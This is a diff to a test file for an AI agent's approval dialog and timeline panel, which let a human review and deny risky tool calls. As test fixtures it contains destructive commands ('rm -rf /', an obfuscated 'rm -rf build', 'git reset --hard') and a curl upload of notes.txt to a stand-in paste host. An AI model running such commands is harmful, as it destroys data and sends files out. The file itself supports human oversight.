@@ -3,7 +3,7 @@ import { afterEach, describe, expect, it, vi } from 'vitest';
 import { cleanup } from 'ink-testing-library';
 import { ApprovalDialog } from '../../src/tui/components/approval-dialog.js';
 import { Panel } from '../../src/tui/components/panel.js';
-import type { ApprovalChoice, ApprovalView, PanelSource, TimelineEntry } from '../../src/tui/types.js';
+import type { ApprovalChoice, ApprovalView, CallEntry, PanelSource, TimelineEntry } from '../../src/tui/types.js';
 import { lineDiff } from '../../src/line-diff.js';
 
 afterEach(() => cleanup());
@@ -16,30 +16,33 @@ async function press(stdin: { write(d: string): void }, ...keys: string[]): Prom
   }
 }
 
-const base: ApprovalView = {
+const base = {
   id: 'a1',
   agent: 'claude',
   tool: 'Bash',
   kind: 'shell',
   command: 'git reset --hard',
   normalized: [],
-  preview: [],
   cwd: '/work/repo',
   ruleId: 'git.reset-hard',
   reason: 'throws away uncommitted changes',
   deadline: Date.now() + 120_000,
   sessionScope: 'the command exactly as written, run in the workspace root',
-};
+} satisfies ApprovalView;
 
-function dialog(view: Partial<ApprovalView> = {}, waiting = 1) {
+/** The fields every kind of approval has, from `base`. */
+const { kind: _kind, command: _command, normalized: _normalized, cwd: _cwd, ...common } = base;
+
+function dialog(view: Partial<Omit<typeof base, 'kind'>> | ApprovalView = {}, waiting = 1) {
   const answers: ApprovalChoice[] = [];
-  const r = render(<ApprovalDialog view={{ ...base, ...view }} waiting={waiting} columns={100} rows={40} onAnswer={(_, c) => answers.push(c)} />);
+  const shown: ApprovalView = 'kind' in view ? view : { ...base, ...view };
+  const r = render(<ApprovalDialog view={shown} waiting={waiting} columns={100} rows={40} onAnswer={(_, c) => answers.push(c)} />);
   return { ...r, answers };
 }
 
 describe('approval dialog: what it shows', () => {
   it.each([
-    ['shell command', { kind: 'shell', tool: 'Bash', command: 'git reset --hard' }, ['run a shell command', '$ git reset --hard', 'git.reset-hard', 'throws away', '/work/repo', 'denied automatically in 1']],
+    ['shell command', { ...base, tool: 'Bash', command: 'git reset --hard' }, ['run a shell command', '$ git reset --hard', 'git.reset-hard', 'throws away', '/work/repo', 'denied automatically in 1']],
     [
       'obfuscated command, with what harness read',
       { command: "$'\\x72m' -rf build", normalized: ['rm -rf build'] },
@@ -47,19 +50,19 @@ describe('approval dialog: what it shows', () => {
     ],
     [
       'write with a diff preview',
-      { kind: 'write', tool: 'Write', command: undefined, target: 'src/config.ts', preview: lineDiff('a\nb\n', 'a\nc\n'), ruleId: 'team.ask-src' },
+      { ...common, kind: 'write', tool: 'Write', target: 'src/config.ts', preview: { lines: lineDiff('a\nb\n', 'a\nc\n'), note: null }, cwd: '/work/repo', ruleId: 'team.ask-src' },
       ['write src/config.ts', '(Write)', '-b', '+c', 'team.ask-src'],
     ],
-    ['edit of a new file', { kind: 'edit', tool: 'Edit', command: undefined, target: 'notes.md', preview: lineDiff('', 'hello\n'), previewNote: 'new file' }, ['edit notes.md', 'new file', '+hello']],
-    ['fetch', { kind: 'fetch', tool: 'WebFetch', command: undefined }, ['reach the network', '(WebFetch)']],
-    ['mcp tool', { kind: 'mcp', tool: 'mcp__db__query', command: undefined }, ['use mcp__db__query']],
+    ['edit of a new file', { ...common, kind: 'edit', tool: 'Edit', target: 'notes.md', preview: { lines: lineDiff('', 'hello\n'), note: 'new file' }, cwd: '/work/repo' }, ['edit notes.md', 'new file', '+hello']],
+    ['fetch', { ...common, kind: 'fetch', tool: 'WebFetch', cwd: '/work/repo' }, ['reach the network', '(WebFetch)']],
+    ['mcp tool', { ...common, kind: 'mcp', tool: 'mcp__db__query', cwd: '/work/repo' }, ['use mcp__db__query']],
     [
       'a network connection, with the call it came from',
-      { kind: 'network', tool: 'network', command: undefined, target: 'paste.example:443', origin: 'from curl -sT notes.txt https://paste.example (Bash)', ruleId: 'network.unknown', reason: 'no rule speaks about paste.example:443' },
+      { ...common, kind: 'network', tool: 'network', target: 'paste.example:443', origin: 'from curl -sT notes.txt https://paste.example (Bash)', ruleId: 'network.unknown', reason: 'no rule speaks about paste.example:443' },
       ['claude wants to connect to paste.example:443 (network)', 'from', 'curl -sT notes.txt https://paste.example (Bash)', 'network.unknown', 'no rule speaks about'],
     ],
-    ['a rule-less default', { ruleId: null }, ['(no rule: the default)']],
-  ] as [string, Partial<ApprovalView>, string[]][])('%s', (_, view, expected) => {
+    ['a rule-less default', { ...base, ruleId: null }, ['(no rule: the default)']],
+  ] as [string, ApprovalView, string[]][])('%s', (_, view, expected) => {
     const { lastFrame } = dialog(view);
     for (const text of expected) expect(lastFrame()).toContain(text);
   });
@@ -72,7 +75,7 @@ describe('approval dialog: what it shows', () => {
 
   it('long previews are cut to the screen with a count of the rest', () => {
     const preview = lineDiff('', Array.from({ length: 200 }, (_, i) => `line ${i}`).join('\n'));
-    const { lastFrame } = dialog({ kind: 'write', tool: 'Write', command: undefined, target: 'big.txt', preview }, 1);
+    const { lastFrame } = dialog({ ...common, kind: 'write', tool: 'Write', target: 'big.txt', preview: { lines: preview, note: null }, cwd: '/work/repo' }, 1);
     expect(lastFrame()).toMatch(/… \d+ more lines/);
     expect(lastFrame()!.split('\n').length).toBeLessThanOrEqual(42);
   });
@@ -129,7 +132,7 @@ describe('approval dialog: keys', () => {
   });
 });
 
-function entry(id: string, over: Partial<TimelineEntry> = {}): TimelineEntry {
+function entry(id: string, over: Partial<CallEntry> = {}): CallEntry {
   return { id, at: Date.parse('2026-11-21T10:00:00Z'), kind: 'call', tool: 'Bash', summary: `cmd ${id}`, verdict: 'allow', decidedBy: 'rule', askedFirst: false, ruleId: null, reason: null, ok: true, checkpoint: null, filesChanged: 0, ...over };
 }
 
@@ -165,7 +168,7 @@ describe('panel', () => {
     entry('t3', { summary: 'rm -rf /', verdict: 'deny', ruleId: 'fs.delete-root', reason: 'no' }),
     entry('t4', { tool: 'Write', summary: 'Write notes.md', checkpoint: 'b'.repeat(40), filesChanged: 1 }),
   ];
-  const panel = (items = entries) => {
+  const panel = (items: TimelineEntry[] = entries) => {
     const { s, calls } = source(items);
     let closed = 0;
     const r = render(<Panel source={s} hotkey="ctrl-]" columns={120} rows={30} onClose={() => closed++} />);
@@ -182,6 +185,22 @@ describe('panel', () => {
     expect(f).toContain('● aaaaaaa 3 files');
     // the newest step is selected
     expect(f).toMatch(/▸ .*Write notes\.md/);
+  });
+
+  it('lines that are not calls: a rollback, a checkpoint between calls, an event with the call it is attributed to', () => {
+    const at = Date.parse('2026-11-21T10:01:00Z');
+    const { lastFrame } = panel([
+      ...entries,
+      { id: 'rollback-1', at, kind: 'rollback', summary: 'rollback by panel to cccccccccccc: 2 file(s) changed', checkpoint: 'e'.repeat(40), filesChanged: 2, error: null },
+      { id: 'checkpoint-1', at, kind: 'checkpoint', summary: 'before make', checkpoint: 'f'.repeat(40), error: null },
+      { id: 'event-1', at, kind: 'event', event: 'out-of-band', summary: '1 file(s) changed while no tool call ran', checkpoint: null, toolUseId: 't4' },
+    ]);
+    const f = lastFrame()!;
+    expect(f).toMatch(/rollback\s+↺\s+rollback by panel/);
+    expect(f).toContain('● eeeeeee 2 files');
+    expect(f).toMatch(/checkpoint\s+●\s+before make/);
+    expect(f).toMatch(/▸ .*unexplained\s+out-of-band\s+1 file\(s\) changed/);
+    expect(f).toContain('attributed to t4');
   });
 
   it('enter shows the diff of the selected step; q goes back', async () => {
